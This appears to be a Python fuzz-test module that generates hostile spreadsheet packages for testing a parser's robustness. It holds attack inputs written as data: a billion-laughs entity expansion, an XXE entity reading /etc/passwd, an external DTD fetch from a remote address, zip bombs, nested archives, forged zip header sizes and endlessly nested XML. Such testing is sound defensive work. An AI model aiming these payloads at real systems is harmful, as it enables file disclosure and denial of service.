"""Packages that are sound and hostile: XML that expands, nests or never ends, sizes and counts that lie, bombs."""

from __future__ import annotations

import struct
import zipfile
from typing import TYPE_CHECKING

from tests.catalogue.workbooks import sound_book
from tests.fuzz.grid import HEAD, MAIN, Page, packed, pages_of, parts_of
from tests.fuzz.in_packages import CENTRAL, LOCAL, PARTS, SHEET, STRINGS, WORKBOOK, of_package, sound, whole

if TYPE_CHECKING:
    from random import Random

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
EXTERNAL = '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % i SYSTEM "http://192.0.2.1/x.dtd"> %i;]>'


def entities(chance: Random) -> bytes:
    """Entities that expand without end, or fetch what is not in the file, in any part."""
    name = chance.choice(PARTS)
    declared, used = chance.choice(((LAUGHS, "&i;"), (EXTERNAL, "&i;"), (PARAMETER, ""), ("<!DOCTYPE x>", "")))
    text = sound()[name].decode()
    text = text.replace("?>\n", f"?>\n{declared}", 1).replace("</", f"{used}</", 1)
    wide = chance.choice(("", "", "", "utf-16", "utf-16-le", "utf-32"))
    content = text.replace("UTF-8", wide, 1).encode(wide) if wide else text.encode()
    return packed(sound() | {name: content})


def deep_or_broken_xml(chance: Random) -> bytes:
    """XML that nests without end, has an endless name, or begins tags that never end."""
    name = chance.choice(PARTS)
    many = chance.choice((3_000, 200_000))
    text = chance.choice(
        (
            "<a>" * many + "</a>" * many,
            "<c " * many,
            "<row " * many,
            '<c t="e"/>' * many,
            "<c><f" * many,
            f"<{'a' * many}/>",
            f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{"<c/>" * many}</row></sheetData></worksheet>',
            f'<worksheet xmlns="{MAIN}"><sheetData>{"<row/>" * many}</sheetData></worksheet>',
            "<x " + "".join(f'a{at}="1" ' for at in range(many // 10)) + "/>",
            f'<mergeCell ref="A1:B2"/>{"<mergeCell " * many}',
        )
    )
    return packed(sound() | {name: f"{HEAD}{text}".encode()})


def bombs(chance: Random) -> bytes:
    """Far more unpacked than packed; parts without end; packages in packages; sizes that lie."""
    return chance.choice((_large_part, _many_parts, _nested, _lies, _lies, _other_method))(chance)


def _large_part(chance: Random) -> bytes:
    """One part that is nothing but the same byte."""
    name = chance.choice((*PARTS, "xl/media/picture.bin"))
    start = sound().get(name, b"")
    return packed(sound() | {name: start + b" " * chance.choice((5_000_000, 12_000_000, 40_000_000))})


def _many_parts(chance: Random) -> bytes:
    many = {f"xl/media/{number}.bin": b"" for number in range(chance.choice((300, 20_000)))}
    return packed(sound() | many, zipfile.ZIP_STORED)


def _nested(chance: Random) -> bytes:
    inner = b"\0" * 5_000_000
    for level in range(4):
        inner = packed({f"{level}.zip": inner})
    return packed(sound() | {chance.choice((SHEET, STRINGS, "xl/embeddings/book.xlsx")): inner})


def _lies(chance: Random) -> bytes:
    """A size in the central directory or in a local header that is not the part's."""
    data = bytearray(whole())
    mark, offset = chance.choice(((CENTRAL, 24), (CENTRAL, 20), (LOCAL, 22), (LOCAL, 18), (CENTRAL, 42)))
    starts = [at for at in range(len(data)) if data.startswith(mark, at)]
    size = chance.choice((0, 1, 100, 100_000_000, 0x7FFFFFFF, 0xFFFFFFFE, 0xFFFFFFFF))
    struct.pack_into("<I", data, chance.choice(starts) + offset, size)
    return bytes(data)


def _other_method(chance: Random) -> bytes:
    return packed(sound(), chance.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_STORED)))


def written_otherwise(chance: Random) -> bytes:
    """Sound or hostile XML in a spelling that the quick look does not expect."""
    parts = dict(sound())
    far = chance.choice((b"XFD1048576", b"XFD1", b"A1048576", b"ZZZ7"))
    parts[SHEET] = chance.choice(
        (
            parts[SHEET].replace(b'"', b"'"),
            parts[SHEET].replace(b"</sheetData>", b'<row r="9"><c\nr="' + far + b'"><v>1</v></c></row></sheetData>'),
            parts[SHEET].replace(b"</sheetData>", b'<row r="9"><c\tr="' + far + b'"><v>1</v></c></row></sheetData>'),
            parts[SHEET]
            .replace(b"</sheetData>", b'<x:row r="9"><x:c r="' + far + b'"><x:v>1</x:v></x:c></x:row></sheetData>')
            .replace(b"<worksheet ", b'<worksheet xmlns:x="' + MAIN.encode() + b'" '),
            parts[SHEET].replace(b"<sheetData>", b'<dimension ref="A1:' + far + b'"/><sheetData>'),
            parts[SHEET].replace(b"<sheetData>", b"<dimension\nref='A1:" + far + b"'/><sheetData>"),
            parts[SHEET].replace(b'<row r="1">', b'<row r="1048570">'),
            parts[SHEET].replace(b'<row r="1">', b'<row r="99999999999">'),
            parts[SHEET].replace(b'r="A2"', b'r="&#88;FD1048576"'),
            parts[SHEET].replace(b"<v>1</v>", b"<v><![CDATA[1]]></v>"),
            parts[SHEET].replace(b"<c r=", b"<c  r="),
            parts[SHEET].replace(b"<c ", b"<x:c ").replace(b"</c>", b"</x:c>"),
        )
    )
    return packed(parts)


def long_strings_many_times(chance: Random) -> bytes:
    """A long text in the shared table that many cells point to."""
    pages = pages_of(sound_book())
    length, cells = chance.choice(((100_000, 300), (30_000, 2_000), (3_000, 20_000)))
    pages.append(Page("Notes", [["x" * length] * 20 for _ in range(cells // 20)]))
    return packed(parts_of(pages, shared=True))


def boasting_counts(chance: Random) -> bytes:
    """Counts, sizes and formats that promise far more than there is."""
    parts = dict(sound())
    name = chance.choice((STRINGS, "xl/styles.xml", SHEET, WORKBOOK))
    attribute = chance.choice(("count", "uniqueCount", "activeTab", "spans", "min"))
    quote, equals = chance.choice("'\""), chance.choice(("=", " = ", "\n="))
    boast = chance.choice(
        ("4294967295", "18446744073709551615", "+99999999", "9" * 400, "-1", "1e9", "00000000000999999")
    )
    start = chance.choice((b"<sst ", b"<styleSheet ", b"<worksheet ", b"<cellXfs", b"<sheets", b"<sheetData", b"<row "))
    head = start.rstrip() + f" {attribute}{equals}{quote}{boast}{quote} ".encode()
    parts[name] = parts[name].replace(start, head, 1)
    if chance.random() < 0.3:
        code = chance.choice(
            ("0" * 100_000 + "#", '"' * 50_001, "[" * 90_000, "_" * 90_000, "0;" * 40_000, "E+" * 9_000)
        )
        styles = parts["xl/styles.xml"].replace(b'"00000"', f"'{code}'".encode())
        sheet = parts[SHEET].replace(b'<c r="A2"', b'<c s="2" r="A2"').replace(b't="s"><v>', b"><v>", 3)
        parts |= {"xl/styles.xml": styles, SHEET: sheet}
    return packed(parts)


KINDS = {
    f"hostile: {change.__name__.replace('_', ' ')}": of_package(change)
    for change in (
        entities,
        deep_or_broken_xml,
        bombs,
        written_otherwise,
        long_strings_many_times,
        boasting_counts,
    )
}
